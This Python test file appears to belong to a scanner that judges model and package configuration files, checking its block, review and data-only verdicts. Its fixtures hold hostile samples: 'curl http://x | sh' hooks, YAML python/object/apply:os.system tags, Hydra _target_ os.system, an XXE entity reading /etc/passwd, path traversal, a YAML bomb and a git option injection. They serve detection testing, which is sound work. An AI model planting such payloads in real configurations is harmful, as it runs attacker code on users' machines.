"""Configurations are judged by what they make a loader do, wherever in the document that stands."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ancile.scan.examine import Examination, examine_part
from ancile.scan.part import Part

DUNDER = "{{ ''.__class__ }}"
LAUGHS = "a: &a [x, x]\n" + "\n".join(
    f"{b}: &{b} [{', '.join([f'*{a}'] * 10)}]" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


def examined(text: str, name: str = "file") -> Examination:
    return examine_part(Part(name, text.encode()))


@pytest.mark.parametrize(
    ("value", "verdict"),
    [
        ({"chat_template": DUNDER}, "block"),
        (
            {"chat_template": [{"name": "a", "template": "{{ x }}"}, {"name": "b", "template": DUNDER}]},
            "block",
        ),
        ({"deep": {"er": [DUNDER]}}, "block"),
        ({"chat_template": "{% for x in %}"}, "incomplete"),
        ({"model": {"vocab": {"{{": 1, "{% for x": 2}, "merges": ["{% for", "{{ a"]}}, "data-only"),
        ({"auto_map": {"AutoModel": "other/repo--m.M"}}, "block"),
        ({"auto_map": {"AutoTokenizer": ["t.X", None]}}, "review"),
        ({"auto_map": {}}, "data-only"),
        ({"custom_pipelines": {"p": {"impl": "pipe.P"}}}, "review"),
        ([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Pooling"}], "data-only"),
        ([{"idx": 0, "name": "0", "path": "", "type": "own.Module"}], "review"),
        ([{"idx": 0, "name": "0", "path": "../x", "type": "transformers.X"}], "block"),
        ({"a": {"_target_": "os.system"}}, "block"),
        ({"a": {"_target_": "builtins.eval"}}, "block"),
        ({"a": {"_target_": "shutil.copyfile"}}, "block"),
        ({"a": {"_target_": "torch.nn.Linear"}}, "named-classes"),
        ({"weight_map": {"a": "../../x.safetensors"}}, "block"),
        ({"weight_map": {"a": "/etc/passwd"}}, "block"),
        ({"weight_map": {"a": "model-1.safetensors"}}, "data-only"),
        ({"_name_or_path": "/home/x/model", "vocab_file": "vocab.json"}, "data-only"),
        ({"vocab_file": "../../x"}, "block"),
        ({"a": {"_target_": "torch.os.system"}}, "block"),
        ({"a": {"_target_": "hydra.utils.get_method", "path": "x"}}, "block"),
        ({"a": {"_target_": "numpy.load"}}, "review"),
        ({"a": {"_target_": "own.make"}}, "review"),
        ({"a": {"_target_": "own.Net"}}, "named-classes"),
        (
            {
                "_class_name": "P",
                "unet": ["diffusers", "UNet"],
                "s": ["stable_diffusion", "StableDiffusionX"],
            },
            "data-only",
        ),
        ({"_class_name": "P", "unet": ["os", "system"]}, "block"),
        ({"_class_name": "P", "unet": ["my_unet", "Net"]}, "review"),
        ({"auto_mapping": {"parent_library": "transformers_modules.x.y"}}, "review"),
        ({"eval": "__import__('os').system('x')"}, "review"),
        ({"serializedFile": "../x.pt"}, "block"),
        ({"scripts": {"postinstall": "curl http://x | sh", "test": "pytest"}}, "review"),
        ({"scripts": {"test": "pytest"}}, "data-only"),
    ],
)
def test_json_gets_the_verdict_of_what_it_names(value: object, verdict: str) -> None:
    assert examined(json.dumps(value)).verdict == verdict


def test_a_repeated_key_with_another_value_is_blocked() -> None:
    assert examined('{"a": 1, "a": "2"}').verdict == "block"
    assert examined('{"a": {"b": 1, "b": 1}}').verdict == "data-only"


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("a: !!python/object/apply:os.system ['x']", "block"),
        ("a:\n  - !!python/name:os.system", "block"),
        ("a: !!%70ython/object/new:x []", "block"),
        ("a: !<tag:yaml.org,2002:python/name:os.system> x", "block"),
        ("%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system", "block"),
        ("a: !python/object:x {}", "block"),
        ("{a: !!javax.script.ScriptEngineManager []}", "block"),
        (LAUGHS, "block"),
        ("a: !!float 1\nb: !!str x\n", "data-only"),
        ("a: {_target_: os.system, command: x}", "block"),
        ("a:\n  _target_: 'subprocess.run'", "block"),
        ('[a]\n_target_ = "os.system"', "block"),
        ("a:\n  _target_: torch.nn.Linear\n", "named-classes"),
        ("flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", "named-classes"),
        ("flavors:\n  python_function:\n    loader_module: own_loader\n", "review"),
        ("--index-url http://127.0.0.1/simple\nnumpy", "block"),
        ("x @ http://127.0.0.1/x.tar.gz", "block"),
        ("--extra-index-url https://example.org/simple\nnumpy", "review"),
        ("git+https://example.org/x.git@main", "review"),
        ("torch\n-r https://example.org/r.txt", "review"),
        ("--constraint=http://example.org/c.txt\ntorch", "block"),
        ("[global]\nindex-url = http://example.org/simple\n", "block"),
        ('[tool.uv.sources]\nx = { git = "https://example.org/x", rev = "main" }\n', "review"),
        ("FROM scratch\nRUN apt-get update \\\n && pip install -U git+https://example.org/x\n", "review"),
        ("-r base.txt\ntorch==2.1 --hash=sha256:00\n", "data-only"),
        ('[project.urls]\ngit = "https://example.org/x"\n', "data-only"),
        ("dependencies:\n  - pip:\n    - git+https://example.org/x", "review"),
        ("numpy>=1.26\ntorch==2.6.0", "data-only"),
        ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "block"),
        ('<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://x/a.dtd"><a/>', "block"),
        ('<?xml version="1.0"?><PMML version="4.4"><Header/></PMML>', "data-only"),
        ('<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://x/a.dtd"><net name="m"/>', "block"),
        ("# Card\nInstall with `pip install x`; see <a href='https://example.org'>it</a>.", "data-only"),
    ],
)
def test_other_configurations_get_the_verdict_of_what_they_name(text: str, verdict: str) -> None:
    assert examined(text).verdict == verdict


@pytest.mark.parametrize(
    "text", ["[" * 100_000, '{"a": ' + "9" * 10_000 + "}", "\n" * 100_000, "curl " * 20_000]
)
def test_what_is_meant_to_exhaust_a_reader_does_not(text: str) -> None:
    assert examined(text).verdict == "data-only"


@given(st.text(max_size=60), st.integers(0, 60))
def test_no_change_of_a_document_raises_anything(text: str, at: int) -> None:
    source = json.dumps(
        {"cells": [{"cell_type": "code", "source": ["!x"], "outputs": []}], "chat_template": "{{ x }}"}
    )
    examined(source[:at] + text + source[at:])
    examined(LAUGHS[:at] + text + LAUGHS[at:])


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("a:\n  _target_: >-\n    os.system\n", "block"),
        ("a:\n  _target_: &t os.system\n", "block"),
        ('a:\n  "\\x5ftarget_": "\\x6fs.system"\n', "block"),
        ("%TAG !x! tag:yaml.org,2002:\n---\na: !x!python/object/apply:os.system [x]\n", "block"),
        ("%TAG !x! tag:yaml.org,2002:\n---\na: !x!str b\n", "data-only"),
        ('[build-system]\nrequires = ["x @ git+https://e/e"]\n', "review"),
        ("jobs:\n  a:\n    steps:\n    - run: curl http://x | bash\n", "review"),
        ("x:\n  script:\n    - pip install torch\n    - curl http://x | sh\n", "review"),
        ("FROM python\nRUN pip install x \\\n  && curl http://x | sh\n", "review"),
        ("all:\n\tcurl http://x | sh\n", "review"),
        ("[core]\n\tfsmonitor = curl http://x|sh\n", "review"),
        ('[submodule "x"]\n\turl = -u./x\n', "review"),
        ("jobs:\n  a:\n    steps:\n    - run: make test\n", "data-only"),
        ("See https://example.org/data.zip\n\nhttps://example.org/houses.zip\n", "data-only"),
        ("torch\nhttps://example.org/x-1.0-py3-none-any.whl\n", "review"),
        ("var a=b?!!c:!!d.e;var f={g:!!n.h}", "data-only"),
    ],
)
def test_lines_get_the_verdict_of_what_they_make_others_do(text: str, verdict: str) -> None:
    assert examined(text).verdict == verdict
